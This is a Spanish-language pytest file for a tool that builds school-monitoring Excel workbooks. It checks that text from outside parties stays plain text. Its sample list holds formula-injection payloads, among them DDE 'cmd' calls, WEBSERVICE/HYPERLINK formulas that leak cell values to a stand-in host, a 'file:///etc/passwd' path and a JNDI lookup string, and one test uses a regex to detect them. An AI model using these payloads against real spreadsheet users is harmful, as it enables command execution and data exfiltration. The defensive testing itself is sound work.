"""Lo que otros escribieron llega al libro tal cual: como texto, entero y sin volverse fórmula ni enlace."""

from __future__ import annotations

import re
from collections import Counter
from dataclasses import replace
from functools import cache
from itertools import cycle

import pytest

from monitoreo_xlsx.catalogo import abreviar
from monitoreo_xlsx.hallazgos import Hallazgo, Ubicacion
from monitoreo_xlsx.modelo import Fuente
from tests.cuadros.escuelas import con_codigos, con_hallazgos, libro, pequena
from tests.lector import abrir
from tests.salida.apoyo import celdas, hallar, partes, recorrer

INYECCIONES = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://ejemplo.invalid/?x="&A1,"ver")',
    '=WEBSERVICE("http://ejemplo.invalid")',
    '=IMPORTXML("http://ejemplo.invalid","//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "- una viñeta de evidencia",
    "@SUM(1+1)",
    "{=1+1}",
    "{=SUM(A1:A2)}",
    "\t=1+1",
    "'=1+1",
    "http://ejemplo.invalid/",
    "https://ejemplo.invalid/?a=1&b=2",
    "mailto:nadie@ejemplo.invalid",
    "internal:Datos!A1",
    "external:otro.xlsx#Hoja!A1",
    "file:///etc/passwd",
    "<script>alert(1)</script>",
    "]]><x/>&amp;&#65;",
    "_x0041_bc",
    "00123456",
    "1e5",
    "3-4",
    "TRUE",
    "#N/A",
    "${jndi:ldap://ejemplo.invalid}",
]


GRUPOS = [tuple(INYECCIONES[i : i + 4]) for i in range(0, len(INYECCIONES), 4)]


@cache
def inyectado(textos: tuple[str, ...]) -> bytes:
    """La escuela pequeña con esos textos en todo lo que otros escriben: nombres, aulas, rúbrica, archivos, hojas, celdas y fuentes."""
    base = pequena()
    base = con_codigos(base, {d.codigo: t for d, t in zip(base.rubrica.desempenos, textos, strict=False)})
    docentes = tuple(replace(d, nombre=t, aula=t) for d, t in zip(base.docentes, cycle(textos), strict=False))
    desempenos = tuple(replace(d, nombre=t) for d, t in zip(base.rubrica.desempenos, cycle(textos), strict=False))
    lugares = [Ubicacion(f"fichas/{t}.xlsx", t.replace("'", ""), "E7") for t in textos]
    return libro(
        replace(
            base,
            docentes=docentes,
            rubrica=replace(base.rubrica, nombre=textos[0], fuente=textos[0], desempenos=desempenos),
            institucion=replace(base.institucion, nombre=textos[0], ugel=textos[0], nivel_educativo=textos[0]),
            hallazgos=tuple(Hallazgo("CEL-007", lugar, valor=t) for lugar, t in zip(lugares, textos, strict=True)),
            fuentes=tuple(Fuente(t, t, t) for t in textos),
        )
    )


@cache
def iguales(textos: tuple[str, ...]) -> Counter[tuple[str, object, str]]:
    """Cuántas celdas hay de cada (hoja, valor, tipo) en el libro con esos textos."""
    return Counter((hoja, c.value, c.data_type) for hoja, c in recorrer(inyectado(textos), valores=True))


@pytest.fixture(scope="module")
def legitimas():
    """Cuántas fórmulas tiene cada hoja de un libro sin inyecciones."""
    return _formulas(libro(con_hallazgos(pequena())))


def _formulas(contenido: bytes) -> dict[str, int]:
    return Counter(hoja for hoja, c in recorrer(contenido) if c.data_type == "f")


@pytest.mark.parametrize("grupo", GRUPOS, ids=[g[0] for g in GRUPOS])
def test_los_textos_ajenos_no_agregan_formulas(legitimas, grupo):
    assert _formulas(inyectado(grupo)) == legitimas


@pytest.mark.parametrize(("grupo", "texto"), [(g, t) for g in GRUPOS for t in g], ids=INYECCIONES)
def test_un_texto_ajeno_queda_identico_y_es_texto(grupo, texto):
    hojas = {"Cronograma": 2, "Docentes": 4, "Desempeños": 4, "Datos": 4, "Visitas": 4, "Definiciones": 3, "Celdas por corregir": 1}
    for hoja, minimo in hojas.items():
        assert iguales(grupo)[hoja, texto, "s"] >= minimo, hoja
    assert {tipo for _, valor, tipo in iguales(grupo) if valor == texto} == {"s"}


@pytest.mark.parametrize("grupo", GRUPOS, ids=[g[0] for g in GRUPOS])
def test_un_texto_ajeno_no_se_vuelve_formula_enlace_ni_relacion(grupo):
    todas = {n: v.decode() for n, v in partes(inyectado(grupo)).items()}
    externos = {d for n, v in todas.items() if n.endswith(".rels") for d in re.findall(r'Target="([^"]*)" TargetMode="External"', v)}
    assert all(d.replace("\\", "/").startswith(("../fichas/", "file:///../", "../cronograma.xlsx")) for d in externos), externos
    hojas = "".join(v for n, v in todas.items() if n.startswith("xl/worksheets/sheet"))
    armazones = [re.sub(r'"(?:[^"]|"")*"', "", f) for f in re.findall(r"<f>(.*?)</f>", hojas)]
    assert armazones
    assert not [f for f in armazones if re.search(r"(?i)cmd\||HYPERLINK\(|WEBSERVICE\(|IMPORTXML\(", f)]


TEXTOS_LARGOS = ["Palabra " * 400, "x" * 5000, "línea\n" * 60, "Ñandú áéíóú « » “ ” – 😀 " * 40]


@pytest.mark.parametrize("texto", TEXTOS_LARGOS, ids=["palabras", "una sola", "líneas", "unicode"])
def test_un_texto_muy_largo_llega_completo_a_las_tablas_y_abreviado_al_panel(texto):
    base = pequena()
    docentes = tuple(replace(d, nombre=texto) for d in base.docentes)
    valores = abrir(libro(replace(base, docentes=docentes)), valores=True)
    for hoja in ("Cronograma", "Docentes", "Datos", "Visitas", "Avance"):
        assert hallar(valores[hoja], texto)
    assert [c for c in celdas(valores["Panel"]) if isinstance(c.value, str) and abreviar(texto) in c.value]


def test_un_hallazgo_con_un_valor_enorme_no_detiene_el_consolidado():
    grande = Hallazgo("CEL-007", Ubicacion("fichas/x.xlsx", "Ficha", "E7"), valor="x" * 40_000)
    assert libro(replace(pequena(), hallazgos=(grande,)))


def test_una_ruta_muy_larga_se_escribe_sin_enlace():
    hallazgo = Hallazgo("CEL-007", Ubicacion("fichas/" + "carpeta/" * 300 + "x.xlsx", "Ficha", "E7"))
    assert libro(replace(pequena(), hallazgos=(hallazgo,)))
